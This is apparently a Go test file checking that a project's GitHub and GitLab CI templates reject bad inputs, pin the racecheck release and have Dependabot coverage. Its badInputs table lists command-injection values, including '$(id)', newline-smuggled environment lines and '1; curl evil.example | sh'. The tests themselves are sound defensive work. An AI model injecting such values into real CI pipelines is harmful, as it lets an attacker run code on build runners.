package citemplates

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/raceproof/raceproof/tools/release"
)

// badInputs are values every template must reject for the input of that
// name, before anything uses them: newlines (which would add lines to
// $GITHUB_OUTPUT, $GITHUB_PATH or $GITHUB_ENV), shell metacharacters,
// out-of-range numbers and malformed durations and versions.
var badInputs = map[string][]string{
	"go-version":        {"1.25.x\n- run: id", "$(id)", "1.25`id`", strings.Repeat("1", 41)},
	"go-version-file":   {"go.mod\nx", "go mod", "$(id)"},
	"working-directory": {"", "../`id`", "a\nb", "-rf", "a;b"},
	"packages":          {"", "$(id)", ". ; id", "a\nb", "-x"},
	"cpu":               {"", "1; curl evil.example | sh", "0", "1,,2", "10000", "1\n2", "1,"},
	"race":              {"yes", "true\n", ""},
	"fuzz":              {"no", "false\n"},
	"vet":               {"maybe", "1"},
	"sarif":             {"on", "true "},
	"test-timeout":      {"5 m", "5m;id", "1x", "5m\n", "-5m"},
	"stress":            {"30", "30s && true", "1.5s", "30s\n"},
	"fuzz-time":         {"", "10s && true", "1.5s", "10s\nx", "x"},
	"fuzz-budget":       {"1h;", "90", "x", "10m\n"},
	"max-parallel":      {"0", "2.5", "-1", "x", "4\n"},
	"racecheck-version": {"latest", "v1.2", "1.2.3", "v1.2.3;id", "v1.2.3\nPATH=/tmp", ""},
	"racecheck-source":  {"a b", "$(id)", "x\ny", "../`id`", "-C"},
	"artifact-suffix":   {"linux\nmalicious=1", "a b", "x/y", strings.Repeat("a", 65), "$(id)"},
}

// rangeInputs are per-template upper bounds checked beside badInputs.
var rangeInputs = map[string]map[string]string{
	".github/workflows/go-race-fuzz.yml":       {"max-parallel": "257"},
	"ci-templates/github/race-fuzz/action.yml": {"max-parallel": "65"},
}

// githubTemplate is a GitHub template and where its validation script is.
type githubTemplate struct {
	file      string   // relative to the repository root
	inputs    []string // the keys leading to its inputs mapping
	stepPath  []string // the keys leading to the steps that hold the validation step
	stepName  string
	unchecked map[string]string // inputs GitHub itself validates, with why
}

var githubTemplates = []githubTemplate{
	{
		file:     ".github/workflows/go-race-fuzz.yml",
		inputs:   []string{"on", "workflow_call", "inputs"},
		stepPath: []string{"jobs", "validate", "steps"},
		stepName: "Validate inputs",
		unchecked: map[string]string{
			"race": "type: boolean", "fuzz": "type: boolean", "sarif": "type: boolean", "vet": "type: boolean",
		},
	},
	{
		file:     "ci-templates/github/race-fuzz/action.yml",
		inputs:   []string{"inputs"},
		stepPath: []string{"runs", "steps"},
		stepName: "Validate inputs",
	},
	{
		file:     release.SetupAction,
		inputs:   []string{"inputs"},
		stepPath: []string{"runs", "steps"},
		stepName: "Install racecheck",
	},
}

// validationStep returns the run: script of the template's validation step,
// the environment variable of each input it reads, and every input's default.
func validationStep(t *testing.T, root string, tpl githubTemplate) (script string, envOf map[string]string, defaults map[string]string) {
	t.Helper()
	src, err := os.ReadFile(filepath.Join(root, filepath.FromSlash(tpl.file)))
	require.NoError(t, err)
	var doc map[string]any
	require.NoError(t, yaml.Unmarshal(src, &doc))
	inputs := sub(t, doc, tpl.inputs...)
	defaults = map[string]string{}
	for name, spec := range inputs {
		defaults[name] = fmt.Sprint(spec.(map[string]any)["default"])
	}
	var steps []any
	if len(tpl.stepPath) == 3 {
		steps = sub(t, doc, tpl.stepPath[:2]...)[tpl.stepPath[2]].([]any)
	} else {
		steps = sub(t, doc, tpl.stepPath[0])[tpl.stepPath[1]].([]any)
	}
	step := stepNamed(t, steps, tpl.stepName)
	envOf = map[string]string{}
	ref := regexp.MustCompile(`^\$\{\{ inputs\.([a-z-]+) \}\}$`)
	for k, v := range step["env"].(map[string]any) {
		if m := ref.FindStringSubmatch(fmt.Sprint(v)); m != nil {
			envOf[m[1]] = k
		}
	}
	return step["run"].(string), envOf, defaults
}

// runValidation runs the script with every input at its default except
// those in values, as the runner would, and returns the exit code and output.
func runValidation(t *testing.T, script string, envOf, defaults, values map[string]string) (int, string) {
	t.Helper()
	tmp := t.TempDir()
	env := append(os.Environ(), "RUNNER_TEMP="+tmp, "GITHUB_WORKSPACE="+tmp,
		"GITHUB_PATH="+filepath.Join(tmp, "path"), "GITHUB_OUTPUT="+filepath.Join(tmp, "output"))
	for input, v := range envOf {
		if bad, ok := values[input]; ok {
			v = bad
		} else {
			v = defaults[input]
		}
		env = append(env, envOf[input]+"="+v)
	}
	cmd := exec.Command("bash", "-c", script)
	cmd.Env = env
	out, err := cmd.CombinedOutput()
	if err != nil {
		exit, ok := err.(*exec.ExitError)
		require.True(t, ok, "bash: %v", err)
		return exit.ExitCode(), string(out)
	}
	return 0, string(out)
}

func TestGitHubTemplatesRejectBadInputs(t *testing.T) {
	root := repoRoot(t)
	for _, tpl := range githubTemplates {
		t.Run(tpl.file, func(t *testing.T) {
			script, envOf, defaults := validationStep(t, root, tpl)
			for input := range defaults {
				_, checked := envOf[input]
				_, why := tpl.unchecked[input]
				assert.True(t, checked || why, "input %q is neither validated by %q nor listed as checked by GitHub", input, tpl.stepName)
				if checked {
					require.NotEmpty(t, badInputs[input], "no bad values for input %q", input)
				}
			}
			for input := range envOf {
				bad := badInputs[input]
				if r := rangeInputs[tpl.file][input]; r != "" {
					bad = append(bad, r)
				}
				for _, v := range bad {
					code, out := runValidation(t, script, envOf, defaults, map[string]string{input: v})
					assert.Equal(t, 2, code, "%s=%q must be rejected:\n%s", input, v, out)
					assert.Contains(t, out, "::error title="+input+"::", "the error names the input")
					assert.NotContains(t, out, "\nPATH=", "a rejected value is never echoed raw")
				}
			}
		})
	}
}

func TestGitHubTemplatesAcceptGoodInputs(t *testing.T) {
	root := repoRoot(t)
	good := map[string]string{
		"go-version": "1.25.x", "go-version-file": "go.work", "working-directory": "services/api",
		"packages": ". ../shared", "cpu": "1,2,4,64", "race": "false", "fuzz": "true", "vet": "true", "sarif": "true",
		"test-timeout": "1m30s", "stress": "30s", "fuzz-time": "500x", "fuzz-budget": "10m", "max-parallel": "16",
		"racecheck-version": "v1.2.3-rc.1", "racecheck-source": "modules/racecheck", "artifact-suffix": "linux_amd64-1.25",
	}
	for _, tpl := range githubTemplates[:2] { // setup-racecheck would go on to install
		t.Run(tpl.file, func(t *testing.T) {
			script, envOf, defaults := validationStep(t, root, tpl)
			code, out := runValidation(t, script, envOf, defaults, nil)
			require.Equal(t, 0, code, "the defaults are valid:\n%s", out)
			code, out = runValidation(t, script, envOf, defaults, good)
			require.Equal(t, 0, code, "%v:\n%s", good, out)
		})
	}
}

func TestGitLabTemplateRejectsBadInputs(t *testing.T) {
	_, src := gitlabTemplate(t)
	tpl, err := ParseGitLabTemplate(src)
	require.NoError(t, err)
	for _, in := range tpl.Inputs {
		bad := badInputs[in.Name]
		switch in.Name {
		case "stage":
			bad = []string{"", "test stage", "a\nb"}
		case "job-prefix":
			bad = []string{"Race Jobs", "-x", "a\nb", strings.Repeat("a", 42)}
		case "image":
			bad = []string{"", "golang:1.25 ; id", "golang\n:1.25", "$(id)"}
		case "shards":
			// GitLab checks that a number input is a number; the 1 to 200 range is
			// that of parallel:, checked by GitLab's schema
			// (TestE2EGitLabRejectsShardsOutOfRange).
			bad = []string{"many", "", "1e"}
		case "max-parallel":
			t.Fatalf("the GitLab template has no max-parallel")
		}
		require.NotEmpty(t, bad, "no bad values for GitLab input %q", in.Name)
		for _, v := range bad {
			err := tpl.ValidateInputs(map[string]string{in.Name: v})
			assert.ErrorIs(t, err, ErrInvalidInput, "%s=%q must be rejected", in.Name, v)
		}
	}
}

// TestTemplateDefaultsPinRacecheckRelease: no template installs latest; each
// installs the racecheck release it is released with, the newest version in
// racecheck's CHANGELOG.
func TestTemplateDefaultsPinRacecheckRelease(t *testing.T) {
	root := repoRoot(t)
	versions, err := release.TemplateVersions(root)
	require.NoError(t, err)
	require.Len(t, versions, len(release.TemplateDefaults))
	for file, v := range versions {
		assert.Equal(t, racecheckRelease(t), v, file)
	}
	for _, f := range append(templateFiles(t, root), filepath.Join(root, "ci-templates", "gitlab", "race-fuzz.yml"), filepath.Join(root, release.SetupAction)) {
		src, err := os.ReadFile(f)
		require.NoError(t, err)
		assert.NotRegexp(t, `(?m)^\s*default:\s*"?latest"?\s*$`, string(src), f)
	}
}

// racecheckRelease is the newest version in modules/racecheck/CHANGELOG.md.
func racecheckRelease(t *testing.T) string {
	t.Helper()
	src, err := os.ReadFile(filepath.Join(repoRoot(t), "modules", "racecheck", "CHANGELOG.md"))
	require.NoError(t, err)
	entries, err := release.ParseChangelog("modules/racecheck/CHANGELOG.md", src)
	require.NoError(t, err)
	require.NotEmpty(t, entries)
	return entries[0].Version
}

func TestSetupRacecheckPinnedAtTheTestedContent(t *testing.T) {
	root := repoRoot(t)
	pins, err := release.SetupPins(root)
	require.NoError(t, err)
	assert.Len(t, pins[".github/workflows/go-race-fuzz.yml"], 4, "race, fuzz-list, fuzz and vet install racecheck")
	assert.Len(t, pins["ci-templates/github/race-fuzz/action.yml"], 1)
	require.NoError(t, release.CheckSetupPins(t.Context(), root))
}

// TestInstallScriptOncePerCISystem: racecheck is installed by exactly one
// script on GitHub (setup-racecheck) and one on GitLab (the base job).
func TestInstallScriptOncePerCISystem(t *testing.T) {
	root := repoRoot(t)
	count := func(files ...string) int {
		n := 0
		for _, f := range files {
			src, err := os.ReadFile(f)
			require.NoError(t, err)
			n += strings.Count(string(src), "modules/racecheck/cmd/racecheck@")
		}
		return n
	}
	github := append(templateFiles(t, root), filepath.Join(root, release.SetupAction))
	assert.Equal(t, 1, count(github...), "GitHub templates")
	assert.Equal(t, 1, count(filepath.Join(root, release.SetupAction)), "the one GitHub install is setup-racecheck's")
	assert.Equal(t, 1, count(filepath.Join(root, "ci-templates", "gitlab", "race-fuzz.yml")), "GitLab template")
}

func TestGitLabIntegrityDocumented(t *testing.T) {
	require.NoError(t, release.CheckGitLabIntegrity(repoRoot(t)))
}

// TestDependabotCoversEveryModule: every go.mod the repository keeps (the
// workspace's and nested library modules') and every directory with an
// action.yml has a Dependabot entry.
func TestDependabotCoversEveryModule(t *testing.T) {
	root := repoRoot(t)
	var cfg struct {
		Updates []struct {
			Ecosystem   string   `yaml:"package-ecosystem"`
			Directory   string   `yaml:"directory"`
			Directories []string `yaml:"directories"`
		} `yaml:"updates"`
	}
	src, err := os.ReadFile(filepath.Join(root, ".github", "dependabot.yml"))
	require.NoError(t, err)
	require.NoError(t, yaml.Unmarshal(src, &cfg))
	covered := map[string]map[string]bool{}
	for _, u := range cfg.Updates {
		if covered[u.Ecosystem] == nil {
			covered[u.Ecosystem] = map[string]bool{}
		}
		for _, d := range append(u.Directories, u.Directory) {
			if d != "" {
				covered[u.Ecosystem][d] = true
			}
		}
	}
	var want []string
	ws, err := release.WorkspaceModules(root)
	require.NoError(t, err)
	for _, m := range ws {
		want = append(want, m.Dir)
	}
	libs, err := release.LibraryModuleDirs(root)
	require.NoError(t, err)
	want = append(want, libs...)
	sort.Strings(want)
	for _, dir := range want {
		d := "/" + strings.TrimPrefix(dir, ".")
		if dir == "." {
			d = "/"
		}
		assert.True(t, covered["gomod"][d], "dependabot.yml has no gomod entry for %s", d)
	}
	actions, err := filepath.Glob(filepath.Join(root, "ci-templates", "github", "*", "action.yml"))
	require.NoError(t, err)
	require.NotEmpty(t, actions)
	assert.True(t, covered["github-actions"]["/"], "workflows")
	for _, a := range actions {
		rel, err := filepath.Rel(root, filepath.Dir(a))
		require.NoError(t, err)
		assert.True(t, covered["github-actions"]["/"+filepath.ToSlash(rel)], "dependabot.yml has no github-actions entry for %s", rel)
	}
	assert.True(t, covered["npm"]["/tools"], "gitlab-ci-local in tools/package.json")
}
